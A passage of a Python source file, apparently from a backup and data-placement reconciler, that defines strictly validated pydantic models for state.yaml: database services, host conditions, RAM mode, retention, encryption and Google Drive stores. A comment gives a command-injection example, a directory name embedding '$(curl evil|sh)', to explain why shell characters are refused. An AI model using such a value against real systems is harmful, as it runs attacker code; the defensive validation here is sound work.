"""The desired state: what a user writes in ``state.yaml``.

Design decisions:
- Every option carries a description and an example (borgmatic's rule). They feed the exported JSON
  Schema (``schemas/state.schema.json``), editor completion, and the option reference in the docs, so
  the model is the single source of truth for what an option means.
- Unknown keys are rejected (``extra="forbid"``): a typo such as ``tmpfs_sise`` must not silently fall
  back to a default on the machine that holds someone's only copy of their data.
- Secrets are never values here, only references (``password_env``, ``identity_file``). The loader
  rejects inline secrets before this model sees them (see ``loader.py``).
- Paths stay as written; ``StateSpec.resolve`` makes them absolute against the directory that holds
  state.yaml, so the same file works from any working directory. This module is pure: it never
  touches the filesystem.
- Input that cannot work is refused here, at validation, with its line and column, not by a crash or a
  misbehaviour later (issue 13): every model is strict (``port: true`` is not port 1, ``6379.0`` is not
  an integer); quantities carry limits documented in their descriptions (a minimum cadence, a minimum
  tmpfs size: ``tmpfs_size: 0`` would mount an *unlimited* tmpfs); ports are unique across services and
  the metrics endpoint; age recipients must be valid Bech32 keys; ``dump_options`` come from an
  allow-list that keeps ``pg_dump -Fc`` output complete and restorable. Checks that need the
  directory of state.yaml (system directories, data directories nested in each other or in the
  backup store) are in ``StateSpec.layout_problems``, which the loader runs once the base directory is
  known. What depends on the host (is there that much RAM?) stays a plan blocker.
"""

from __future__ import annotations

import posixpath
from datetime import timedelta
from typing import Annotated, Any, Literal

from pydantic import (
    AfterValidator,
    BaseModel,
    ConfigDict,
    Field,
    PrivateAttr,
    field_validator,
    model_validator,
)

from reconciler.spec.recipients import recipient_problem
from reconciler.spec.units import (
    ByteSize,
    Duration,
    SizeOrShare,
    TmpfsSize,
    bytes_between,
    duration_between,
    share_between,
)


def is_loopback_url(url: str) -> bool:
    """An http(s) URL whose host is a loopback address (127.0.0.0/8, ::1) or ``localhost``."""
    import ipaddress
    from urllib.parse import urlsplit

    try:
        parts = urlsplit(url)
        host = parts.hostname or ""
        parts.port  # noqa: B018  (raises ValueError on a malformed port)
    except ValueError:
        return False
    if parts.scheme not in ("http", "https") or parts.username or parts.password:
        return False
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


SERVICE_KINDS: tuple[str, ...] = ("postgres", "redis", "mariadb")
ENV_NAME_PATTERN = r"^[A-Za-z_][A-Za-z0-9_]*$"
CONTAINER_PATTERN = r"^[A-Za-z0-9][A-Za-z0-9_.-]{0,127}$"
IMAGE_PATTERN = r"^[A-Za-z0-9][A-Za-z0-9._/:@+-]{0,254}$"
MAX_PATH = 4096

Port = Annotated[int, Field(ge=1, le=65535)]
ContainerName = Annotated[str, Field(pattern=CONTAINER_PATTERN)]
ImageName = Annotated[str, Field(pattern=IMAGE_PATTERN)]
MiB = 1024**2


# Directories that belong to the system: never a data directory, a RAM root (a tmpfs mounted over
# /etc would hide the host's configuration), a state directory or a backup store.
_SYSTEM_DIRECTORIES = frozenset(
    {
        "/",
        "/bin",
        "/boot",
        "/dev",
        "/dev/shm",
        "/etc",
        "/home",
        "/lib",
        "/lib32",
        "/lib64",
        "/libx32",
        "/media",
        "/mnt",
        "/opt",
        "/proc",
        "/root",
        "/run",
        "/run/shm",
        "/run/user",
        "/sbin",
        "/srv",
        "/sys",
        "/tmp",
        "/usr",
        "/usr/local",
        "/var",
        "/var/lib",
        "/var/run",
        "/var/tmp",
    }
)
_SYSTEM_TREES = (
    "/bin",
    "/boot",
    "/etc",
    "/lib",
    "/lib32",
    "/lib64",
    "/libx32",
    "/proc",
    "/sbin",
    "/sys",
    "/usr",
)


def _within(path: str, directory: str) -> bool:
    """``path`` is ``directory`` or lies below it (both normalized and absolute)."""
    return path == directory or path.startswith(directory.rstrip("/") + "/")


def _normalized(path: str) -> str:
    """``posixpath.normpath``, but ``//etc`` is ``/etc``: POSIX lets normpath keep exactly two leading
    slashes (implementation-defined), Linux treats them as one, and every check here compares text."""
    normal = posixpath.normpath(path)
    return "/" + normal.lstrip("/") if normal.startswith("//") else normal


def _is_system_directory(path: str) -> bool:
    if path in _SYSTEM_DIRECTORIES or any(_within(path, tree) for tree in _SYSTEM_TREES):
        return True
    return _within(path, "/dev") and not _within(path, "/dev/shm")


def _path_text(value: str) -> str:
    if not value.strip():
        raise ValueError("a path cannot be empty")
    if "\0" in value:
        raise ValueError("a path cannot contain a NUL character")
    if len(value) > MAX_PATH:
        raise ValueError(f"a path is at most {MAX_PATH} characters long")
    return value


PathText = Annotated[str, AfterValidator(_path_text)]

# ``pg_ctl start`` runs the server through ``/bin/sh -c``: the data directory and the log file inside
# double quotes, the ``-o`` options (with the socket directory under state_dir) bare. A directory named
# ``./data/pg$(curl evil|sh)`` would run that command, so the directories that reach pg_ctl refuse
# what a shell interprets inside double quotes, and state_dir also what it interprets bare (and ``,``,
# which separates PostgreSQL's socket directories: ``x,/tmp`` would open a socket in /tmp).
_SHELL_IN_QUOTES = '"`$\\'
_SHELL_BARE = " \t,;&|<>()*?[]{}'#!"


def _unsafe(value: str, characters: str) -> str | None:
    return next((ch for ch in value if ch in characters or not ch.isprintable()), None)


def _server_dir(value: str) -> str:
    bad = _unsafe(_path_text(value), _SHELL_IN_QUOTES)
    if bad is not None:
        raise ValueError(
            f"a data directory cannot contain {bad!r}: pg_ctl starts PostgreSQL through /bin/sh, which "
            "would interpret it; choose a plain directory name"
        )
    return value


def _state_dir_text(value: str) -> str:
    bad = _unsafe(_server_dir(value), _SHELL_IN_QUOTES + _SHELL_BARE)
    if bad is not None:
        raise ValueError(
            f"state_dir cannot contain {bad!r}: PostgreSQL's socket directory (under state_dir) goes "
            "unquoted into the command line pg_ctl runs through /bin/sh, so the shell or PostgreSQL would "
            "interpret it; choose a plain directory name"
        )
    return value


ServerDir = Annotated[str, AfterValidator(_server_dir)]
StateDirText = Annotated[str, AfterValidator(_state_dir_text)]


def _no_nul(value: str) -> str:
    if "\0" in value:
        raise ValueError("a PostgreSQL name cannot contain a NUL character")
    return value


SqlName = Annotated[str, Field(min_length=1, max_length=63), AfterValidator(_no_nul)]

# pg_dump options that keep ``pg_dump -Fc`` output complete and restorable by ``pg_restore`` into the
# application role, and that leave the connection and the output to the reconciler. Options taking a
# value are written ``--option=value``. Anything else is refused with this list: -F/--format (the
# format must stay custom), -f/--file (the dump must go to stdout), -Z (zstd compresses downstream),
# -s/--schema-only and -a/--data-only (half a backup), -t/-n/-T/-N/--exclude-table-data (the manifest
# checks every table), connection options (-h -p -U -d --role), -j (directory format only).
_DUMP_FLAGS = frozenset(
    {
        "-O",
        "--no-owner",
        "-x",
        "--no-privileges",
        "--no-acl",
        "--no-comments",
        "--no-publications",
        "--no-subscriptions",
        "--no-security-labels",
        "--no-tablespaces",
        "--no-toast-compression",
        "--no-table-access-method",
        "--no-unlogged-table-data",
        "--quote-all-identifiers",
        "--serializable-deferrable",
        "--enable-row-security",
        "--load-via-partition-root",
    }
)
_DUMP_VALUED = frozenset({"--lock-wait-timeout", "--extra-float-digits"})


def _field(default: Any = ..., *, description: str, example: Any, **kwargs: Any) -> Any:
    return Field(default, description=description, examples=[example], **kwargs)


class _Strict(BaseModel):
    model_config = ConfigDict(
        extra="forbid", frozen=True, populate_by_name=True, validate_default=True, strict=True
    )


# ---- host conditions (issue 16): on which machines a stack or a service runs ---------------------
# One state.yaml, committed to a repository that several machines pull; ``hosts:`` says where a stack
# (or one service) runs. Decisions, documented in docs/ARCHITECTURE.md ("Host conditions"):
# - Every condition written must hold (AND across hostname, file_exists and env); within ``hostname``
#   any one pattern is enough (OR). A stack-level and a service-level ``hosts`` both apply.
# - Hostname patterns are shell globs (``*``, ``?``, ``[a-z]``), not regular expressions: a hostname is
#   a plain label, and a regex's ``.`` silently matching any character is the wrong default. They are
#   matched case-insensitively (DNS names are) against the kernel's hostname (``uname -n``) and against
#   its short form (before the first dot), so ``kitchen`` matches ``kitchen.lan``; no DNS lookup is
#   made (a Pi at boot may have no network, and the answer must not change with it).
# - ``file_exists`` is an absolute path: a path relative to state.yaml would be in the checkout, the
#   same on every machine. ``env`` compares exact values (the actual value is never printed: a
#   variable may hold something private).
HOSTNAME_PATTERN_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_*?[]!")


def _hostname_pattern(value: str) -> str:
    if not value:
        raise ValueError("a hostname pattern cannot be empty")
    if len(value) > 253:
        raise ValueError("a hostname pattern is at most 253 characters long (the longest DNS name)")
    bad = next((ch for ch in value if ch not in HOSTNAME_PATTERN_CHARS), None)
    if bad is not None:
        raise ValueError(
            f"hostname pattern {value[:40]!r} cannot contain {bad!r}: use letters, digits, '.', '-', '_' and "
            "the glob characters * ? [...] (shell-style globs, not regular expressions)"
        )
    depth = 0
    for ch in value:
        if ch == "[":
            if depth:
                raise ValueError(f"hostname pattern {value[:40]!r} opens '[' twice; write a class as [a-z]")
            depth = 1
        elif ch == "]":
            if not depth:
                raise ValueError(f"hostname pattern {value[:40]!r} closes a ']' it never opened")
            depth = 0
    if depth:
        raise ValueError(f"hostname pattern {value[:40]!r} opens '[' without closing it")
    return value


def _absolute_path(value: str) -> str:
    if not _path_text(value).startswith("/"):
        raise ValueError(
            f"file_exists must be an absolute path (got {value[:60]!r}): a path relative to state.yaml would "
            "be inside the checkout, the same on every machine"
        )
    return value


HostnamePattern = Annotated[str, AfterValidator(_hostname_pattern)]
EnvName = Annotated[str, Field(pattern=ENV_NAME_PATTERN)]


class HostsSpec(_Strict):
    """On which machines this runs: every condition given must hold (hostname: any one pattern).
    A machine where they do not hold leaves everything alone: nothing is started, stopped, restored,
    backed up or deleted there, and services already running there are not stopped."""

    hostname: Annotated[list[HostnamePattern], Field(min_length=1, max_length=64)] | None = _field(
        None,
        description="Shell-style glob patterns (* ? [a-z]); the host matches when any one matches its "
        "hostname (`uname -n`) or the short form of it (before the first dot), ignoring case. Not "
        "regular expressions. No DNS lookup.",
        example=["pi-*", "kitchen"],
    )
    file_exists: Annotated[str, AfterValidator(_absolute_path)] | None = _field(
        None,
        description="Absolute path of a file (or directory) that must exist on the host, e.g. a marker "
        "created on the primary machine only. A broken symbolic link or an unreadable parent counts as "
        "missing.",
        example="/etc/reconciler/primary",
    )
    env: Annotated[dict[EnvName, str], Field(min_length=1, max_length=64)] | None = _field(
        None,
        description="Environment variables that must be set to exactly these values in the reconciler's "
        "environment (the daemon's: see deploy/reconciler.service). The actual value is never printed.",
        example={"RECONCILER_ROLE": "primary"},
    )

    @model_validator(mode="after")
    def _some_condition(self) -> HostsSpec:
        if self.hostname is None and self.file_exists is None and self.env is None:
            raise ValueError(
                "hosts needs at least one condition (hostname, file_exists or env); remove it to run everywhere"
            )
        return self


_HOSTS_DESCRIPTION = (
    "On which machines {what} runs, for one state.yaml pulled by several machines: hostname globs, a "
    'file that must exist, environment variables. Elsewhere `plan` says "not for this host" and '
    "nothing is started, stopped, restored, backed up or deleted there{more}. Unset: every machine."
)


def _service_hosts() -> Any:
    return _field(
        None,
        description=_HOSTS_DESCRIPTION.format(
            what="this service",
            more=" (a host that runs the stack without this service neither backs it up nor restores it)",
        ),
        example={"hostname": ["pi-kitchen"]},
    )


class PostgresSpec(_Strict):
    """A PostgreSQL server with one application database."""

    database: SqlName = _field(
        description="Name of the application's database (at most 63 characters; not postgres, template0 "
        "or template1); created if missing.",
        example="loomio_production",
    )
    user: SqlName = _field(
        description="Role that owns the database (at most 63 characters; not postgres, the superuser; "
        "PostgreSQL reserves names starting with pg_); created if missing.",
        example="loomio",
    )
    password_env: Annotated[str, Field(pattern=ENV_NAME_PATTERN)] | None = _field(
        None,
        description="Name of the environment variable holding the role's password (never the password).",
        example="POSTGRES_PASSWORD",
    )
    password_file: PathText | None = _field(
        None,
        description="Path of a file (mode 0600, outside the repository) holding the role's password.",
        example="/etc/reconciler/postgres.password",
    )
    port: Port = _field(
        5432, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=5432
    )
    disk_dir: ServerDir = _field(
        description="Data directory used in disk mode (relative paths are relative to state.yaml).",
        example="./data/postgres",
    )
    dump_options: list[str] = _field(
        default_factory=list,
        description="Extra options appended to `pg_dump -Fc` when taking a backup, from an allow-list that "
        "keeps the dump complete and restorable: "
        + ", ".join(sorted(_DUMP_FLAGS))
        + ", "
        + ", ".join(f"{o}=VALUE" for o in sorted(_DUMP_VALUED))
        + ".",
        example=["--no-owner", "--no-acl"],
    )
    container: ContainerName | None = _field(
        None,
        description="Container name (docker runtime only; default <stack>-postgres).",
        example="loomio-db",
    )
    image: ImageName | None = _field(
        None,
        description="Image to create the container from when it does not exist (docker runtime only); "
        "an existing container keeps its own image.",
        example="postgres:15",
    )
    hosts: HostsSpec | None = _service_hosts()

    @field_validator("user")
    @classmethod
    def _not_reserved_role(cls, value: str) -> str:
        if value.lower().startswith("pg_"):
            raise ValueError(f"role names starting with 'pg_' are reserved by PostgreSQL ({value!r})")
        if value == "postgres":
            raise ValueError(
                "postgres is the superuser the reconciler itself uses; the application's role must be its own "
                "(it is the boundary a legacy restore runs behind, and it gets the application's password)"
            )
        return value

    @field_validator("database")
    @classmethod
    def _not_a_template(cls, value: str) -> str:
        if value in ("template0", "template1"):
            raise ValueError(f"{value} is PostgreSQL's template database; name the application's own")
        if value == "postgres":
            raise ValueError(
                "postgres is the maintenance database the reconciler connects to (a restore would replace it); "
                "name the application's own"
            )
        return value

    @field_validator("dump_options")
    @classmethod
    def _restorable_dump_options(cls, value: list[str]) -> list[str]:
        for option in value:
            name = option.split("=", 1)[0]
            if option in _DUMP_FLAGS or (name in _DUMP_VALUED and "=" in option and option.split("=")[1]):
                continue
            allowed = ", ".join([*sorted(_DUMP_FLAGS), *(f"{o}=VALUE" for o in sorted(_DUMP_VALUED))])
            raise ValueError(
                f"pg_dump option {option[:40]!r} is not allowed: backups must stay complete, custom-format "
                f"dumps that pg_restore can load. Allowed: {allowed}"
            )
        return value

    @model_validator(mode="after")
    def _one_password_source(self) -> PostgresSpec:
        if self.password_env and self.password_file:
            raise ValueError("set either password_env or password_file, not both")
        return self


class RedisSpec(_Strict):
    """A Redis server."""

    port: Port = _field(
        6379, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=6379
    )
    disk_dir: ServerDir = _field(
        description="Data directory used in disk mode (relative paths are relative to state.yaml).",
        example="./data/redis",
    )
    container: ContainerName | None = _field(
        None,
        description="Container name (docker runtime only; default <stack>-redis).",
        example="loomio-redis",
    )
    image: ImageName | None = _field(
        None,
        description="Image to create the container from when it does not exist (docker runtime only).",
        example="redis:7",
    )
    hosts: HostsSpec | None = _service_hosts()


# mariadb-dump options that keep the dump a complete, consistent, restorable SQL script of the one
# database: the snapshot (--single-transaction), the output (stdout), the connection and the choice of
# tables stay the reconciler's. Anything else is refused with this list.
_MARIADB_DUMP_FLAGS = frozenset(
    {
        "--skip-comments-in-data",
        "--compact-inserts",
        "--skip-extended-insert",
        "--complete-insert",
        "--order-by-primary",
        "--skip-add-locks",
        "--skip-tz-utc",
        "--no-create-db",
        "--skip-dump-date",
        "--insert-ignore",
    }
)
_MARIADB_DUMP_VALUED = frozenset({"--max-allowed-packet", "--net-buffer-length", "--default-character-set"})


class MariadbSpec(_Strict):
    """A MariaDB server with one application database."""

    database: Annotated[str, Field(min_length=1, max_length=64, pattern=r"^[A-Za-z0-9_]+$")] = _field(
        description="Name of the application's database (letters, digits and _, at most 64 characters; not a "
        "system database such as mysql); created if missing.",
        example="app",
    )
    user: Annotated[str, Field(min_length=1, max_length=80, pattern=r"^[A-Za-z0-9_]+$")] = _field(
        description="User the application logs in as (letters, digits and _; not root or mysql), for "
        "localhost and 127.0.0.1, granted everything on the database; created if missing.",
        example="app",
    )
    password_env: Annotated[str, Field(pattern=ENV_NAME_PATTERN)] | None = _field(
        None,
        description="Name of the environment variable holding the user's password (never the password).",
        example="MARIADB_PASSWORD",
    )
    password_file: PathText | None = _field(
        None,
        description="Path of a file (mode 0600, outside the repository) holding the user's password.",
        example="/etc/reconciler/mariadb.password",
    )
    port: Port = _field(
        3306, description="TCP port on 127.0.0.1 (1-65535, unique in the file).", example=3306
    )
    disk_dir: ServerDir = _field(
        description="Data directory used in disk mode (relative paths are relative to state.yaml).",
        example="./data/mariadb",
    )
    dump_options: list[str] = _field(
        default_factory=list,
        description="Extra options appended to `mariadb-dump --single-transaction` when taking a backup, from "
        "an allow-list that keeps the dump complete and restorable: "
        + ", ".join(sorted(_MARIADB_DUMP_FLAGS))
        + ", "
        + ", ".join(f"{o}=VALUE" for o in sorted(_MARIADB_DUMP_VALUED))
        + ".",
        example=["--order-by-primary"],
    )
    container: ContainerName | None = _field(
        None,
        description="Container name (docker runtime only; default <stack>-mariadb).",
        example="shop-db",
    )
    image: ImageName | None = _field(
        None,
        description="Image to create the container from when it does not exist (docker runtime only): one "
        "whose entrypoint runs `mariadbd` like reconciler/mariadb (scripts/docker-images); an existing "
        "container keeps its own image.",
        example="reconciler/mariadb:10.11",
    )
    hosts: HostsSpec | None = _service_hosts()

    @field_validator("database")
    @classmethod
    def _not_a_system_database(cls, value: str) -> str:
        if value.lower() in ("mysql", "information_schema", "performance_schema", "sys", "test"):
            raise ValueError(f"{value} is a MariaDB system database; name the application's own")
        if value.endswith(("__restoring", "__replaced")):
            raise ValueError("names ending in __restoring or __replaced are the reconciler's restore staging")
        return value

    @field_validator("user")
    @classmethod
    def _not_a_system_user(cls, value: str) -> str:
        if value.lower() in ("root", "mysql", "mariadb.sys", "public"):
            raise ValueError(
                f"{value} is a MariaDB system account the reconciler relies on; the application's user must be its own"
            )
        return value

    @field_validator("dump_options")
    @classmethod
    def _restorable_dump_options(cls, value: list[str]) -> list[str]:
        for option in value:
            name, _, argument = option.partition("=")
            if option in _MARIADB_DUMP_FLAGS or (name in _MARIADB_DUMP_VALUED and argument):
                continue
            allowed = ", ".join(
                [*sorted(_MARIADB_DUMP_FLAGS), *(f"{o}=VALUE" for o in sorted(_MARIADB_DUMP_VALUED))]
            )
            raise ValueError(
                f"mariadb-dump option {option[:40]!r} is not allowed: backups must stay complete, consistent "
                f"dumps of the one database. Allowed: {allowed}"
            )
        return value

    @model_validator(mode="after")
    def _one_password_source(self) -> MariadbSpec:
        if self.password_env and self.password_file:
            raise ValueError("set either password_env or password_file, not both")
        return self


class ServicesSpec(_Strict):
    """The stack's stateful services. At least one must be configured."""

    postgres: PostgresSpec | None = _field(
        None,
        description="The PostgreSQL server.",
        example={"database": "loomio_production", "user": "loomio", "disk_dir": "./data/postgres"},
    )
    redis: RedisSpec | None = _field(
        None, description="The Redis server.", example={"disk_dir": "./data/redis"}
    )
    mariadb: MariadbSpec | None = _field(
        None,
        description="The MariaDB server.",
        example={"database": "app", "user": "app", "disk_dir": "./data/mariadb"},
    )

    @model_validator(mode="after")
    def _at_least_one(self) -> ServicesSpec:
        if self.postgres is None and self.redis is None and self.mariadb is None:
            raise ValueError("configure at least one service (postgres, redis or mariadb)")
        return self

    def database_of(self, name: str) -> str | None:
        """The application database of a SQL service (None for Redis or a service not configured)."""
        return getattr(self.configured().get(name), "database", None)

    def configured(self) -> dict[str, PostgresSpec | RedisSpec | MariadbSpec]:
        found: dict[str, PostgresSpec | RedisSpec | MariadbSpec] = {}
        if self.postgres is not None:
            found["postgres"] = self.postgres
        if self.redis is not None:
            found["redis"] = self.redis
        if self.mariadb is not None:
            found["mariadb"] = self.mariadb
        return found


class DrainSpec(_Strict):
    """Application containers stopped while data moves and started again afterwards."""

    containers: list[ContainerName] = _field(
        default_factory=list,
        description="Containers to stop before a mode switch or restore, in order; started in reverse.",
        example=["loomio-app", "loomio-worker"],
    )
    stop_timeout: Annotated[Duration, duration_between(timedelta(seconds=1), timedelta(minutes=10))] = _field(
        10,
        description="How long a drained container gets to stop after SIGTERM before it is killed (docker "
        "runtime): from 1s to 10m. Part of the write downtime `plan` shows for a mode switch.",
        example="10s",
    )


class RamSpec(_Strict):
    """Where and how data lives in RAM mode."""

    path: ServerDir = _field(
        "/dev/shm/reconciler/{stack}",
        description="Directory on tmpfs that holds each service's RAM-mode data directory. "
        "{stack} is replaced by the stack's name. A directory of its own: not a system directory such "
        "as / or /etc, and neither inside nor around a disk_dir, state_dir or the backup store.",
        example="/dev/shm/reconciler/{stack}",
    )
    mount: Literal["auto", "always", "never"] = _field(
        "auto",
        description="Mount a dedicated tmpfs at `path` with the `tmpfs_size` limit: `always`, `never` "
        "(use the tmpfs that `path` already lives on, such as /dev/shm), or `auto` (mount when running as root).",
        example="auto",
    )
    tmpfs_size: Annotated[TmpfsSize, share_between(64 * MiB, 64 * 1024**4)] = _field(
        SizeOrShare(percent=50),
        description="Size limit of the dedicated tmpfs: a size from 64MiB to 64TiB, or a share of the host's "
        "RAM from 1% to 100% (a size of 0 would mean no limit to tmpfs, so it is refused).",
        example="50%",
    )
    min_headroom: Annotated[ByteSize, bytes_between(0)] = _field(
        1024**3,
        description="Room that must stay free in RAM mode, checked twice: the host's available memory "
        "(MemAvailable) and the free space on the tmpfs that holds the data (a full tmpfs stops the "
        "databases' writes even when the host has memory). Below it on either, `plan` reports drift with "
        "the numbers of each check that fails, and `apply` and the daemon act as on_pressure says; entering "
        "RAM mode is refused when the data would leave less than this.",
        example="1GiB",
    )
    keep_disk_copy: bool = _field(
        True,
        description="After switching from disk to RAM mode, keep the disk copy as a stale safety copy "
        "(it costs no RAM). It is never used as data again; it is replaced by the next switch to disk.",
        example=True,
    )
    switch_backup: Literal["online", "drained"] = _field(
        "online",
        description="When a mode switch takes its pre-switch backup set: `online`, just before the apps are "
        "drained (write downtime ~1-2 s per GB; if the machine also loses power in the middle of the switch, "
        "the writes of those few seconds are not in that set), or `drained`, after draining (no such loss, "
        "but the downtime grows by the backup's duration, ~10 s per GB).",
        example="online",
    )
    on_pressure: Literal["warn", "fallback-to-disk"] = _field(
        "warn",
        description="What to do when host memory or tmpfs space drops below min_headroom: `warn` (`plan` and "
        "`apply` exit 1 naming the check that fails, the daemon sets RamHeadroom=False; nothing moves) or "
        "`fallback-to-disk` (`apply` and the daemon switch the stack to disk mode and keep it there until "
        "state.yaml is edited).",
        example="warn",
    )


class RetentionSpec(_Strict):
    """Which backup sets to keep (restic's semantics: a set is kept when any rule keeps it).
    At least one rule must keep something."""

    keep_last: int = _field(24, description="Keep the newest N sets.", example=24, ge=0)
    keep_hourly: int = _field(
        0, description="Keep the newest set of each of the last N hours.", example=48, ge=0
    )
    keep_daily: int = _field(
        7, description="Keep the newest set of each of the last N days.", example=7, ge=0
    )
    keep_weekly: int = _field(
        4, description="Keep the newest set of each of the last N weeks.", example=4, ge=0
    )
    keep_monthly: int = _field(
        0, description="Keep the newest set of each of the last N months.", example=12, ge=0
    )

    @model_validator(mode="after")
    def _keeps_something(self) -> RetentionSpec:
        if not any((self.keep_last, self.keep_hourly, self.keep_daily, self.keep_weekly, self.keep_monthly)):
            raise ValueError(
                "every keep_* rule is 0, so retention would keep no backup set; keep at least one "
                "(e.g. keep_last: 1)"
            )
        return self


class EncryptionSpec(_Strict):
    """How backup files are encrypted. Write `encryption: none` to store backups unencrypted on purpose."""

    method: Literal["age", "none"] = _field(
        "age", description="`age` (X25519 recipients) or `none` (explicitly unencrypted).", example="age"
    )
    recipients: list[str] = _field(
        default_factory=list,
        description="age public keys (age1..., checked as Bech32 X25519 keys) that backups are encrypted "
        "to; safe to commit. `reconciler keygen --add-recipient` adds one.",
        example=["age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"],
    )
    identity_file: PathText | None = _field(
        None,
        description="Path of the age identity (secret key) file, mode 0600, outside the repository. "
        "Needed to restore and to authenticate backup manifests.",
        example="/etc/reconciler/backup.key",
    )

    @model_validator(mode="before")
    @classmethod
    def _none_shorthand(cls, data: Any) -> Any:
        if data == "none":
            return {"method": "none"}
        return data

    @field_validator("recipients")
    @classmethod
    def _recipients_are_public_keys(cls, value: list[str]) -> list[str]:
        for recipient in value:
            problem = recipient_problem(recipient)
            if problem:
                raise ValueError(
                    f"{recipient[:12]!r}... is not an age public key: it {problem}. "
                    "`reconciler keygen` prints a valid one"
                )
        return value


class LocalStoreSpec(_Strict):
    """Backup sets in a local directory."""

    path: PathText = _field(
        "./data/backups",
        description="Directory holding backup sets (relative paths are relative to state.yaml).",
        example="./data/backups",
    )


class GdriveStoreSpec(_Strict):
    """Off-site copies of backup sets on Google Drive."""

    enabled: bool = _field(False, description="Upload backup sets to Google Drive.", example=True)
    folder_id: str | None = _field(
        None, description="Id of the Drive folder that holds the backups.", example="1AbCdEfGhIjKlMnOp"
    )
    sub_path: str | None = _field(
        None,
        description="Folders below folder_id to keep the sets in, created if missing.",
        example="reconciler/loomio",
    )
    credentials_file: PathText | None = _field(
        None,
        description="Path of an OAuth authorized-user file (personal accounts) or a service-account key "
        "(Shared Drives), outside the repository.",
        example="/etc/reconciler/gdrive.json",
    )
    drive_id: str | None = _field(
        None, description="Id of the Shared Drive that holds folder_id, if it is on one.", example="0AbCdEf"
    )
    bandwidth_limit: Annotated[ByteSize, bytes_between(16 * 1024)] | None = _field(
        None,
        description="Upload at most this many bytes per second, at least 16KiB (unset: no limit).",
        example="2MiB",
    )
    chunk_size: Annotated[ByteSize, bytes_between(256 * 1024, 256 * MiB)] = _field(
        8 * 1024 * 1024,
        description="Resumable upload chunk size (a multiple of 256 KiB, from 256KiB to 256MiB; held in "
        "memory); a dropped connection resends at most one.",
        example="8MiB",
    )
    retention: RetentionSpec | None = _field(
        None,
        description="Retention on Drive (unset: the same as backup.retention).",
        example={"keep_daily": 30, "keep_monthly": 12},
    )
    api_url: str | None = _field(
        None,
        description="Root URL of the Drive API; only for tests against a local emulator, so only a loopback "
        "address (127.0.0.1, ::1, localhost) is accepted: the credentials and every backup go there.",
        example="http://127.0.0.1:8099/",
    )

    @field_validator("api_url")
    @classmethod
    def _loopback_only(cls, value: str | None) -> str | None:
        if value is not None and not is_loopback_url(value):
            raise ValueError(
                "api_url may only name this machine (http://127.0.0.1:PORT/, a Drive emulator for tests): "
                "the Drive refresh token and every backup would be sent there. Remove it to use Google Drive"
            )
        return value

    @model_validator(mode="after")
    def _complete_when_enabled(self) -> GdriveStoreSpec:
        if self.enabled and (not self.folder_id or not self.credentials_file):
            raise ValueError("an enabled gdrive store needs folder_id and credentials_file")
        if self.chunk_size % (256 * 1024):
            raise ValueError("chunk_size must be a multiple of 256KiB")
        return self


class StoresSpec(_Strict):
    """Where backup sets are kept."""

    local: LocalStoreSpec = _field(
        default_factory=LocalStoreSpec, description="The local store.", example={"path": "./data/backups"}
    )
    gdrive: GdriveStoreSpec = _field(
        default_factory=GdriveStoreSpec, description="The Google Drive store.", example={"enabled": False}
    )


class ContinuousSpec(_Strict):
    """Continuous protection of PostgreSQL (opt-in): physical base backups plus a stream of WAL.

    With it on, every backup set also holds a physical base backup (``pg_basebackup``), and the daemon
    streams WAL with ``pg_receivewal`` so a restore can replay up to the last second (``spool``) or
    the last ``interval`` (``offsite``). The logical dump stays in every set and stays the default
    restore path until the physical one is proven.
    """

    enabled: bool = _field(
        False,
        description="Add a physical base backup of PostgreSQL to every backup set and stream WAL.",
        example=True,
    )
    placement: Literal["spool", "offsite"] = _field(
        "spool",
        description="Where the WAL being written lives: `spool` keeps the segment in progress on "
        "persistent storage (spool_dir; recovery point about one second; completed segments also go to "
        "Google Drive with each sync when the gdrive store is on), `offsite` writes nothing to "
        "persistent storage and ships every segment, and the one in progress every `interval`, to "
        "Google Drive (requires the gdrive store).",
        example="spool",
    )
    spool_dir: PathText = _field(
        "./data/wal-spool",
        description="Directory on persistent storage for the WAL segment in progress (placement "
        "`spool`); relative paths are relative to state.yaml.",
        example="/var/lib/reconciler/wal-spool",
    )
    interval: Annotated[Duration, duration_between(timedelta(seconds=1), timedelta(hours=1))] = _field(
        60,
        description="With placement `offsite`, ship the WAL segment in progress this often, from 1s "
        "to 1h: the recovery point after a power cut.",
        example="60s",
    )
    redis_every: Annotated[Duration, duration_between(timedelta(seconds=5), timedelta(hours=1))] = _field(
        300,
        description="Also snapshot Redis this often, from 5s to 1h: each snapshot is compressed, encrypted "
        "and signed outside the sets (placement `spool`: the local store's `redis/` area; `offsite`: the "
        "Drive store's `redis/<stack>` folder, staged in RAM, nothing written locally), and restore on boot "
        "loads the newest one taken after the restored set. Redis's recovery point after a power cut. "
        "Placement `offsite` without a Drive store takes none: Redis's recovery point stays `backup.cadence`.",
        example="5m",
    )


class BackupSpec(_Strict):
    """Backups: how often, how long they are kept, how they are encrypted, where they go."""

    cadence: Annotated[Duration, duration_between(timedelta(seconds=5), timedelta(days=30))] = _field(
        3600, description="Take a backup set this often: from 5s to 30d.", example="1h"
    )
    stale_after: Duration = _field(
        7200,
        description="A newest backup older than this (by the time in its name), or none at all, is drift: "
        "`plan` shows `take a backup set` with the age and exits 2, `apply` takes one; longer than cadence. "
        "A newest set dated ahead of the host clock cannot be aged and also counts (one set, then ages are "
        "measured from it).",
        example="2h",
    )
    retention: RetentionSpec = _field(
        default_factory=RetentionSpec,
        description="Which sets to keep.",
        example={"keep_last": 24, "keep_daily": 7, "keep_weekly": 4},
    )
    encryption: EncryptionSpec = _field(
        default_factory=EncryptionSpec,
        description="Encryption of backup files.",
        example={"recipients": ["age1..."], "identity_file": "/etc/reconciler/backup.key"},
    )
    stores: StoresSpec = _field(
        default_factory=StoresSpec,
        description="Backup stores.",
        example={"local": {"path": "./data/backups"}},
    )
    max_set_size: Annotated[ByteSize, bytes_between(64 * 1024)] | None = _field(
        None,
        description="Refuse to keep a backup set larger than this, as stored (compressed and encrypted, "
        "every member together), at least 64KiB (unset: no limit). The backup counts bytes as it writes "
        "and stops as soon as the set goes past the limit, so a runaway table never fills the store: the "
        "partial set is removed, every earlier set is kept, and the failure is reported with the code "
